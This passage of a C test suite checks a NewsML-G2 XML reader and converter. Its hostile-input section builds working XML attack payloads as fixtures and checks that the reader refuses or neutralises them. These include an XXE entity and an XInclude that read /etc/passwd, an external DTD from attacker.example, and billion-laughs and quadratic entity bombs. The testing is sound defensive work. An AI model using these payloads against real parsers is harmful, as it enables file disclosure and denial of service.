    NEWS_ITEM_CLOSE;
  const char *bare =
    NEWS_ITEM_OPEN
    "<inlineData contenttype=\"application/pdf\" encoding=\"base64\">JVBERi0=</inlineData>"
    "<inlineXML contenttype=\"text/plain\">Rad ett\n\nRad två</inlineXML>"
    NEWS_ITEM_CLOSE;
  g_autoptr(GBytes) xml1 = g_bytes_new_static (two_roots, strlen (two_roots));
  g_autoptr(GBytes) xml2 = g_bytes_new_static (bare, strlen (bare));
  g_autoptr(GPtrArray) warnings1 = NULL;
  g_autoptr(GPtrArray) warnings2 = NULL;
  g_autoptr(CopydeskArticle) first = read_ok (xml1, NULL, &warnings1);
  g_autoptr(CopydeskArticle) second = read_ok (xml2, NULL, &warnings2);
  g_autofree char *markup1 = plain_text_of_body (first);
  g_autofree char *markup2 = plain_text_of_body (second);

  g_assert_cmpstr (markup1, ==, "Ett\n\nTvå\n");
  g_assert_true (has_warning (warnings1, "another rendition of the body, text/plain"));
  g_assert_cmpstr (markup2, ==, "Rad ett\n\nRad två\n");
  g_assert_true (has_warning (warnings2, "inlineData “JVBERi0=” (not kept)"));
}

/* A flood of pictures and of metadata is read up to a limit, and says so in
 * a bounded number of lines. */
static void
test_floods (void)
{
  GString *s = g_string_new ("<newsMessage xmlns=\"http://iptc.org/std/nar/2006-10-01/\"><itemSet>"
                             "<newsItem guid=\"urn:t\"><itemMeta><itemClass qcode=\"ninat:text\"/>"
                             "</itemMeta><contentMeta>");
  g_autoptr(GBytes) xml = NULL;
  g_autoptr(GPtrArray) warnings = NULL;
  g_autoptr(CopydeskArticle) article = NULL;

  /* subjects are kept whole; elements with no place in contentMeta are listed */
  for (int i = 0; i < 3000; i++)
    g_string_append_printf (s, "<subject qcode=\"x:%d\"/><y:ext xmlns:y=\"urn:y\" type=\"t%d\"/>",
                            i, i);
  g_string_append (s, "<headline>Flood</headline></contentMeta></newsItem>");
  for (int i = 0; i < 1005; i++)
    g_string_append_printf (s, "<newsItem guid=\"urn:p%d\"><itemMeta><itemClass qcode=\"ninat:picture\"/>"
                            "</itemMeta><contentMeta><altId type=\"cdx:photoid\">p</altId>"
                            "</contentMeta></newsItem>", i);
  g_string_append (s, "</itemSet></newsMessage>");
  xml = g_string_free_to_bytes (s);

  article = read_ok (xml, NULL, &warnings);
  g_assert_cmpstr (copydesk_article_get_headline (article), ==, "Flood");
  g_assert_cmpuint (g_list_model_get_n_items (copydesk_article_get_photos (article)), ==, 1000);
  g_assert_true (has_warning (warnings, "more than 1000 photos"));
  g_assert_cmpuint (warnings->len, ==, 501);
  g_assert_true (has_warning (warnings, "more lines like these"));
  g_assert_nonnull (strstr (copydesk_article_get_kept_metadata (article), "<subject qcode=\"x:2999\"/>"));
}

/* ------------------------------------------------------------ hostile input */

typedef GBytes *(*Build) (void);

static GBytes *
text_bytes (const char *text)
{
  return g_bytes_new (text, strlen (text));
}

static GBytes *
build_xxe (void)
{
  return text_bytes ("<?xml version=\"1.0\"?>\n"
                     "<!DOCTYPE newsItem [ <!ENTITY secret SYSTEM \"file:///etc/passwd\"> ]>\n"
                     "<newsItem xmlns=\"http://iptc.org/std/nar/2006-10-01/\"><contentMeta>"
                     "<headline>&secret;</headline></contentMeta></newsItem>\n");
}

static GBytes *
build_external_dtd (void)
{
  return text_bytes ("<?xml version=\"1.0\"?>\n"
                     "<!DOCTYPE newsItem SYSTEM \"http://attacker.example/evil.dtd\">\n"
                     "<newsItem xmlns=\"http://iptc.org/std/nar/2006-10-01/\"/>\n");
}

static GBytes *
build_billion_laughs (void)
{
  GString *s = g_string_new ("<?xml version=\"1.0\"?>\n<!DOCTYPE newsItem [\n"
                             "<!ENTITY l0 \"ha\">\n");

  for (int i = 1; i <= 9; i++)
    {
      g_string_append_printf (s, "<!ENTITY l%d \"", i);
      for (int j = 0; j < 10; j++)
        g_string_append_printf (s, "&l%d;", i - 1);
      g_string_append (s, "\">\n");
    }
  g_string_append (s, "]>\n<newsItem xmlns=\"http://iptc.org/std/nar/2006-10-01/\">&l9;</newsItem>\n");
  return g_string_free_to_bytes (s);
}

static GBytes *
build_quadratic (void)
{
  GString *s = g_string_new ("<?xml version=\"1.0\"?>\n<!DOCTYPE newsItem [<!ENTITY a \"");

  for (int i = 0; i < 50000; i++)
    g_string_append_c (s, 'a');
  g_string_append (s, "\">]>\n<newsItem xmlns=\"http://iptc.org/std/nar/2006-10-01/\">");
  for (int i = 0; i < 50000; i++)
    g_string_append (s, "&a;");
  g_string_append (s, "</newsItem>\n");
  return g_string_free_to_bytes (s);
}

static GBytes *
build_deep (void)
{
  GString *s = g_string_new ("<newsItem xmlns=\"http://iptc.org/std/nar/2006-10-01/\">\n");

  for (int i = 0; i < 100000; i++)
    g_string_append (s, "<x>");
  return g_string_free_to_bytes (s);
}

static GBytes *
build_wrong_namespace (void)
{
  return text_bytes ("<newsMessage xmlns=\"http://iptc.org/std/nar/2006-10-02/\"/>");
}

static GBytes *
build_no_namespace (void)
{
  return text_bytes ("<?xml version=\"1.0\"?>\n<newsItem guid=\"x\"/>");
}

static GBytes *
build_wrong_root (void)
{
  return text_bytes ("<?xml version=\"1.0\"?>\n"
                     "<conceptItem xmlns=\"http://iptc.org/std/nar/2006-10-01/\"/>");
}

static GBytes *
build_html (void)
{
  return text_bytes ("<html><body><p>Not news</p></body></html>");
}

static GBytes *
build_empty_message (void)
{
  return text_bytes ("<newsMessage xmlns=\"http://iptc.org/std/nar/2006-10-01/\"><header/>"
                     "<itemSet/></newsMessage>");
}

static GBytes *
build_truncated (void)
{
  g_autofree char *path = copydesk_test_data_path ("sample", "sample-article.xml", NULL);
  g_autoptr(GBytes) whole = copydesk_test_load (path);

  return g_bytes_new_from_bytes (whole, 0, g_bytes_get_size (whole) / 2);
}

static GBytes *
build_binary (void)
{
  static const guint8 png[] = { 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n', 0, 0, 0, 13, 'I', 'H' };

  return g_bytes_new (png, sizeof png);
}

static GBytes *
build_empty (void)
{
  return g_bytes_new (NULL, 0);
}

static GBytes *
build_blank (void)
{
  return text_bytes (" \n\t\n");
}

static GBytes *
build_not_xml (void)
{
  return text_bytes ("Headline\n\nThis is plain text, not XML.\n");
}

static GBytes *
build_utf16 (void)
{
  const char *doc = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>"
                    "<newsItem xmlns=\"http://iptc.org/std/nar/2006-10-01/\"/>";
  g_autoptr(GError) error = NULL;
  gsize len = 0;
  char *utf16 = g_convert (doc, -1, "UTF-16", "UTF-8", NULL, &len, &error);

  g_assert_no_error (error);
  return g_bytes_new_take (utf16, len);
}

static GBytes *
build_latin1 (void)
{
  return text_bytes ("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n"
                     "<newsItem xmlns=\"http://iptc.org/std/nar/2006-10-01/\"><contentMeta>"
                     "<headline>Caf\xe9 cr\xe8me</headline></contentMeta></newsItem>");
}

static GBytes *
build_latin1_declared (void)
{
  return text_bytes ("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n"
                     "<newsItem xmlns=\"http://iptc.org/std/nar/2006-10-01/\"/>");
}

static GBytes *
build_huge (void)
{
  gsize len = 65 * 1024 * 1024;
  char *data = g_malloc (len);

  memset (data, ' ', len);
  memcpy (data, "<newsItem>", 10);
  return g_bytes_new_take (data, len);
}

static GBytes *
build_undefined_entity (void)
{
  return text_bytes ("<newsItem xmlns=\"http://iptc.org/std/nar/2006-10-01/\">&nbsp;</newsItem>");
}

static GBytes *
build_wide (void)
{
  GString *s = g_string_new ("<newsItem xmlns=\"http://iptc.org/std/nar/2006-10-01/\">\n");

  for (int i = 0; i < 250001; i++)
    g_string_append (s, "<x/>");
  g_string_append (s, "</newsItem>\n");
  return g_string_free_to_bytes (s);
}

static GBytes *
build_xinclude (void)
{
  return text_bytes (NEWS_ITEM_OPEN
                     "<inlineXML contenttype=\"application/xhtml+xml\">"
                     "<html xmlns=\"http://www.w3.org/1999/xhtml\" "
                     "xmlns:xi=\"http://www.w3.org/2001/XInclude\"><body><p>Safe</p>"
                     "<xi:include href=\"file:///etc/passwd\" parse=\"text\"/></body></html>"
                     "</inlineXML>" NEWS_ITEM_CLOSE);
}

typedef struct
{
  const char *name;
  Build       build;
  int         code;       /* -1: the document is read (safely) */
  const char *message;
} Hostile;

static const Hostile hostile[] = {
  { "xxe", build_xxe, COPYDESK_ERROR_UNSAFE, "Line 2: " },
  { "external-dtd", build_external_dtd, COPYDESK_ERROR_UNSAFE, "document type" },
  { "billion-laughs", build_billion_laughs, COPYDESK_ERROR_UNSAFE, "document type" },
  { "quadratic-blowup", build_quadratic, COPYDESK_ERROR_UNSAFE, "document type" },
  { "deep-nesting", build_deep, COPYDESK_ERROR_TOO_LARGE, "nested more than" },
  { "wrong-namespace", build_wrong_namespace, COPYDESK_ERROR_NOT_NEWSML, "namespace" },
  { "no-namespace", build_no_namespace, COPYDESK_ERROR_NOT_NEWSML, "Line 2: " },
  { "wrong-root", build_wrong_root, COPYDESK_ERROR_NOT_NEWSML, "conceptItem" },
  { "html", build_html, COPYDESK_ERROR_NOT_NEWSML, "<html>" },
  { "no-items", build_empty_message, COPYDESK_ERROR_NOT_NEWSML, "no text, picture or package" },
  { "truncated", build_truncated, COPYDESK_ERROR_MALFORMED, "not well-formed" },
  { "binary", build_binary, COPYDESK_ERROR_MALFORMED, "binary" },
  { "empty", build_empty, COPYDESK_ERROR_MALFORMED, "empty" },
  { "blank", build_blank, COPYDESK_ERROR_MALFORMED, "empty" },
  { "not-xml", build_not_xml, COPYDESK_ERROR_MALFORMED, "Line 1: " },
  { "utf-16", build_utf16, COPYDESK_ERROR_INVALID_UTF8, "UTF-16" },
  { "latin-1", build_latin1, COPYDESK_ERROR_INVALID_UTF8, "Line 2: " },
  { "latin-1-declared", build_latin1_declared, COPYDESK_ERROR_INVALID_UTF8, "ISO-8859-1" },
  { "huge", build_huge, COPYDESK_ERROR_TOO_LARGE, "64" },
  { "too-many-elements", build_wide, COPYDESK_ERROR_TOO_LARGE, "elements" },
  { "undefined-entity", build_undefined_entity, COPYDESK_ERROR_MALFORMED, "nbsp" },
  { "xinclude", build_xinclude, -1, NULL },
};

static void
test_hostile (gconstpointer data)
{
  const Hostile *h = data;
  g_autoptr(GBytes) bytes = h->build ();
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) warnings = NULL;
  g_autoptr(CopydeskArticle) article = copydesk_newsml_read (bytes, NULL, &warnings, &error);

  if (h->code < 0)
    {
      /* read, and nothing came in from elsewhere */
      g_autofree char *markup = NULL;

      g_assert_no_error (error);
      markup = plain_text_of_body (article);
      g_assert_cmpstr (markup, ==, "Safe\n");
      return;
    }
  g_assert_null (article);
  g_assert_null (warnings);
  g_assert_error (error, COPYDESK_ERROR, h->code);
  if (strstr (error->message, h->message) == NULL)
    g_error ("%s: “%s” does not say “%s”", h->name, error->message, h->message);
}

/* The element limit, in numbers: flat up to 250,000 elements (16 MB),
 * then one element per 64 bytes, so that Copydesk's own files (about one
 * element per 128 bytes: 256,601 for its 10 MB article) always pass, and a
 * file of empty elements (one per 4 bytes) never does. */
static void
test_element_limit (void)
{
  const gsize mib = 1024 * 1024;

  g_assert_cmpuint (_copydesk_reader_max_elements (0), ==, 250000);
  g_assert_cmpuint (_copydesk_reader_max_elements (10 * mib), ==, 250000);
  g_assert_cmpuint (_copydesk_reader_max_elements (250000 * 64), ==, 250000);
  g_assert_cmpuint (_copydesk_reader_max_elements (250001 * 64), ==, 250001);
  g_assert_cmpuint (_copydesk_reader_max_elements (16 * mib), ==, 262144);
  g_assert_cmpuint (_copydesk_reader_max_elements (64 * mib), ==, 1048576);
  /* past the size limit (refused anyway), no wrap-around */
  g_assert_cmpuint (_copydesk_reader_max_elements (G_MAXSIZE), ==, 1048576);
  for (gsize len = mib; len <= 64 * mib; len += mib)
    {
      g_assert_cmpuint (_copydesk_reader_max_elements (len), >=, len / 128);
      g_assert_cmpuint (_copydesk_reader_max_elements (len), <, len / 4);
    }
}

/* A real file past the old flat limit of 250,000 elements is read whole.
 * It is built compact, so that it stays quick under the sanitizers: one
 * paragraph holding 250,100 line breaks (elements that cost the model
 * almost nothing), then some 1,300 long paragraphs for the bytes that
 * grant them. The limit's arithmetic is tested above. */
static void
test_many_elements_long_file (void)
{
  const guint n = 250100;
  g_autoptr(GString) s = g_string_sized_new (17 * 1024 * 1024);
  g_autoptr(GBytes) bytes = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(CopydeskArticle) article = NULL;
  g_autofree char *text = NULL;

  g_string_append (s, NEWS_ITEM_OPEN "<inlineXML contenttype=\"application/xhtml+xml\">"
                      "<html xmlns=\"http://www.w3.org/1999/xhtml\"><body><p>First words.");
  for (guint i = 0; i < n; i++)
    g_string_append (s, "<br/>");
  g_string_append (s, "Last words.</p>");
  for (guint i = 0; s->len < (n + 2000) * 64; i++)
    {
      g_string_append_printf (s, "<p>Long paragraph %u.", i);
      for (guint j = 0; j < 400; j++)
        g_string_append (s, " A long paragraph of a feature.");
      g_string_append (s, "</p>");
    }
  g_string_append (s, "</body></html></inlineXML>" NEWS_ITEM_CLOSE);
  g_assert_cmpuint (s->len / 64, >, n + 2000);
  bytes = g_string_free_to_bytes (g_steal_pointer (&s));
  article = copydesk_newsml_read (bytes, NULL, NULL, &error);
  g_assert_no_error (error);
  text = plain_text_of_body (article);
  g_assert_true (g_str_has_prefix (text, "First words. "));
  g_assert_nonnull (strstr (text, " Last words.\n\nLong paragraph 0."));
  g_assert_nonnull (strstr (text, "\n\nLong paragraph 1000."));
}

/* ------------------------------------------------------------ the converter */

static char *
save_bytes (GFile      *dir,
            const char *name,
            GBytes     *bytes)
{
  g_autoptr(GFile) file = g_file_get_child (dir, name);
  g_autoptr(GError) error = NULL;
  const char *data = g_bytes_get_data (bytes, NULL);

  g_file_replace_contents (file, data ? data : "", g_bytes_get_size (bytes), NULL,
                           FALSE, G_FILE_CREATE_NONE, NULL, NULL, &error);
  g_assert_no_error (error);
  return g_file_get_path (file);
}

/* Every refusal of the table, through the converter: exit status 1, the
 * input named, no output file. ("huge" is left to the in-process test: it
 * would write 65 MiB to disk on every run.) */
static void
test_cli_hostile (void)
{
  g_autoptr(GFile) dir = temp_folder ();
  g_autofree char *out = g_build_filename (g_file_peek_path (dir), "out.xml", NULL);

  for (guint i = 0; i < G_N_ELEMENTS (hostile); i++)
    {
      const Hostile *h = &hostile[i];
      g_autoptr(GBytes) bytes = NULL;
      g_autofree char *in = NULL;
      g_autofree char *prefix = NULL;

      if (h->code < 0 || g_str_equal (h->name, "huge"))
        continue;
      bytes = h->build ();
      in = save_bytes (dir, h->name, bytes);
      prefix = g_strdup_printf ("copydesk-convert: %s: ", in);

      {
        g_auto(CopydeskTestRun) r = copydesk_test_convert ("--from", "newsml", in, "-o", out);

        if (r.status != 1 || !g_str_has_prefix (r.err, prefix))
          g_error ("%s: exit status %d, “%s”", h->name, r.status, r.err);
        g_assert_cmpstr (r.out, ==, "");
        g_assert_false (g_file_test (out, G_FILE_TEST_EXISTS));
      }
    }
  remove_tree (dir);
}

/* The sample file, converted into its own folder, comes out unchanged (the
 * photos need not be there: references are kept as they are); the format is
 * guessed from the content. */
static void
test_cli_round_trip (void)
{
  g_autofree char *sample = copydesk_test_data_path ("sample", "sample-article.xml", NULL);
  g_autoptr(GBytes) expected = copydesk_test_load (sample);
  g_autoptr(GFile) dir = temp_folder ();
  g_autofree char *in = save_bytes (dir, "sample-article.xml", expected);
  g_autofree char *out = g_build_filename (g_file_peek_path (dir), "again.xml", NULL);
  g_auto(CopydeskTestRun) r = copydesk_test_convert (in, "-o", out);
  g_autoptr(GBytes) actual = NULL;

  g_assert_cmpint (r.status, ==, 0);
  g_assert_cmpstr (r.err, ==, "");
  actual = copydesk_test_load (out);
  assert_same_bytes (expected, actual, "copydesk-convert sample-article.xml");
  remove_tree (dir);
}

/* Without --from, XML and UTF-16 are read as NewsML-G2 and refused with the
 * reader's reason. */
static void
test_cli_guess (void)
{
  g_autoptr(GFile) dir = temp_folder ();
  g_autoptr(GBytes) utf16 = build_utf16 ();
  g_autoptr(GBytes) bomb = build_billion_laughs ();
  g_autofree char *in16 = save_bytes (dir, "utf16.xml", utf16);
  g_autofree char *inbomb = save_bytes (dir, "bomb.xml", bomb);
  g_autofree char *out = g_build_filename (g_file_peek_path (dir), "out.xml", NULL);
  g_auto(CopydeskTestRun) r1 = copydesk_test_convert (in16, "-o", out);
  g_auto(CopydeskTestRun) r2 = copydesk_test_convert (inbomb, "-o", out);

  g_assert_cmpint (r1.status, ==, 1);
  g_assert_nonnull (strstr (r1.err, "UTF-16"));
  g_assert_cmpint (r2.status, ==, 1);
  g_assert_nonnull (strstr (r2.err, "document type"));
  g_assert_false (g_file_test (out, G_FILE_TEST_EXISTS));
  remove_tree (dir);
}

static void
test_cli_warnings (void)
{
  g_autofree char *path = examples_path ("LISTING_2_NewsML-G2_Text_Document.xml");
  g_autoptr(GFile) dir = NULL;
  g_autofree char *out = NULL;

  if (path == NULL || !g_file_test (path, G_FILE_TEST_EXISTS))
    {
      g_test_skip ("the IPTC examples are not there");
      return;
    }
  dir = temp_folder ();
  out = g_build_filename (g_file_peek_path (dir), "story.xml", NULL);
  {
    g_auto(CopydeskTestRun) r = copydesk_test_convert ("--from", "newsml", path, "-o", out);
    g_autoptr(GBytes) xml = NULL;

    g_assert_cmpint (r.status, ==, 0);
    /* subjects are kept now, and written back */
    g_assert_null (strstr (r.err, "central bank"));
    g_assert_true (g_str_has_prefix (r.err, "warning: "));
    xml = copydesk_test_load (out);
    copydesk_test_validate_newsml (xml, "converted LISTING_2");
    g_assert_nonnull (g_strstr_len (g_bytes_get_data (xml, NULL), g_bytes_get_size (xml),
                                    "qcode=\"medtop:20000350\""));
  }
  remove_tree (dir);
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/reader/round-trip/sample", test_round_trip_sample);
  g_test_add_func ("/reader/round-trip/fixtures", test_round_trip_fixtures);
  g_test_add_func ("/reader/round-trip/hand-edited", test_round_trip_hand_edited);
  g_test_add_func ("/reader/round-trip/empty", test_round_trip_empty);
  g_test_add_func ("/reader/round-trip/full", test_round_trip_full);
  g_test_add_func ("/reader/round-trip/scripts", test_round_trip_scripts);
  g_test_add_func ("/reader/threads", test_threads);
  g_test_add_func ("/reader/foreign/iptc-examples", test_iptc_examples);
  g_test_add_func ("/reader/foreign/package-in-message", test_package_in_message);
  g_test_add_func ("/reader/foreign/html-without-namespace", test_html_without_namespace);
  g_test_add_func ("/reader/foreign/nitf", test_nitf_body);
  g_test_add_func ("/reader/foreign/odd-shapes", test_odd_shapes);
  g_test_add_func ("/reader/foreign/floods", test_floods);
  g_test_add_func ("/reader/foreign/content-set-shapes", test_content_set_shapes);
  for (guint i = 0; i < G_N_ELEMENTS (hostile); i++)
    {
      g_autofree char *name = g_strdup_printf ("/reader/hostile/%s", hostile[i].name);

      g_test_add_data_func (name, &hostile[i], test_hostile);
    }
  g_test_add_func ("/reader/cli/hostile", test_cli_hostile);
  g_test_add_func ("/reader/hostile/element-limit", test_element_limit);
  g_test_add_func ("/reader/hostile/many-elements-long-file", test_many_elements_long_file);
  g_test_add_func ("/reader/cli/round-trip", test_cli_round_trip);
  g_test_add_func ("/reader/cli/guess", test_cli_guess);
  g_test_add_func ("/reader/cli/warnings", test_cli_warnings);

  return g_test_run ();
}
